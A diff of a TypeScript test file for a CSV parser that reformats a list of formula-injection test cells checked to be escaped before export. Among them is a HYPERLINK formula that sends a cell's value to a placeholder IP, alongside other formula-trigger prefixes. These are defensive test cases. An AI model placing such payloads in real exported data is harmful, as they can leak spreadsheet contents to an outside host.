@@ -17,8 +17,7 @@ function parseCsv(text: string): string[][] {
         if (text[i] === '"' && text[i + 1] === '"') {
           field += '"';
           i += 2;
-        }
-        else if (text[i] === '"') {
+        } else if (text[i] === '"') {
           i++;
           break;
         } else field += text[i++];
@@ -40,7 +39,18 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const hostile = ['=HYPERLINK("http://192.0.2.1/?x="&A1,"click")', '+SUM(1+1)', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', 'a\nb', 'a\r\nb,c', 'plain'];
+const hostile = [
+  '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
+  '+SUM(1+1)',
+  '-1+2',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '＝1+1',
+  'a\nb',
+  'a\r\nb,c',
+  'plain',
+];
 
 describe('CSV cells a spreadsheet would run are written as text (OWASP CSV injection)', () => {
   it.each(hostile.slice(0, 7))('%j is prefixed with a quote mark and quoted', (cell) => {
